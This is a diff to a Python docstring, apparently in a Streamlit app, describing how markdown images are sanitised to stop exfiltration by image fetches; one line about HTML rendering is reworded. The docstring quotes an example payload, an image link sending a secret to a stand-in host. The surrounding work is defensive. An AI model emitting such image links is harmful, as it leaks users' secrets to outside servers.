@@ -5,7 +5,7 @@
   injection (`![](http://host/?q=secret)` is fetched by the browser as soon as it is shown). Inline images with a
   non-`data:` URL become the plain text "[hình ảnh: host/…]"; any other image syntax (reference-style `![a][ref]`,
   `![a]`, forms the pattern does not parse) loses its `!` and is at most a link, which needs a click.
-  Raw HTML (`<img>`) is already shown as text: no page calls st.markdown with unsafe_allow_html.
+  Raw HTML (`<img>`) is already shown as text: no page lets st.markdown render HTML.
 """
 from __future__ import annotations
 
